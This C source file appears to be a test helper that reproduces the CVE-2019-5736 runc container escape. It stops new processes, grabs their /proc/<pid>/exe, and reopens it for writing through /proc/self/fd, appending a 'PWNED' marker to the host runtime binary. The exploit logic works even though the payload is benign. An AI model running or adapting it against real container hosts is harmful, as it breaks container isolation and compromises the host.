/* CVE-2019-5736 attacker, run inside a container (built static by
 * test_cve_2019_5736.sh). For DURATION seconds it scans /proc; every new
 * process is stopped with SIGSTOP, its /proc/<pid>/exe is opened read-only
 * when possible, the process is resumed, and once it is gone the fd is
 * reopened for writing through /proc/self/fd (the original exploit). Prints
 * "WROTE <target>" for every successful write and "DONE seen=N opened=M". */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char seen[1 << 16];

int main(int argc, char **argv) {
  int dur = argc > 1 ? atoi(argv[1]) : 5;
  time_t end = time(NULL) + dur;
  int nseen = 0, nopen = 0;
  pid_t self = getpid();
  while (time(NULL) < end) {
    DIR *d = opendir("/proc");
    if (!d) return 1;
    struct dirent *e;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == self || pid >= (int)sizeof seen || seen[pid]) continue;
      seen[pid] = 1;
      nseen++;
      kill(pid, SIGSTOP);
      char p[64], target[4096] = "";
      snprintf(p, sizeof p, "/proc/%d/exe", pid);
      ssize_t n = readlink(p, target, sizeof target - 1);
      if (n > 0) target[n] = 0;
      int fd = open(p, O_RDONLY | O_CLOEXEC);
      int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w >= 0) {
        if (write(w, "PWNED", 5) == 5) printf("WROTE %s (direct)\n", target);
        close(w);
      }
      kill(pid, SIGCONT);
      if (fd < 0) continue;
      if (strstr(target, "busybox")) {
        close(fd);
        continue;
      }
      nopen++;
      printf("OPENED %s\n", target);
      fflush(stdout);
      char fdp[64];
      snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", fd);
      for (int i = 0; i < 2000; i++) { /* up to 2 s for the process to exit */
        int w2 = open(fdp, O_WRONLY | O_APPEND);
        if (w2 >= 0) {
          if (write(w2, "PWNED", 5) == 5) printf("WROTE %s\n", target);
          close(w2);
          break;
        }
        usleep(1000);
      }
      close(fd);
    }
    closedir(d);
  }
  printf("DONE seen=%d opened=%d\n", nseen, nopen);
  return 0;
}
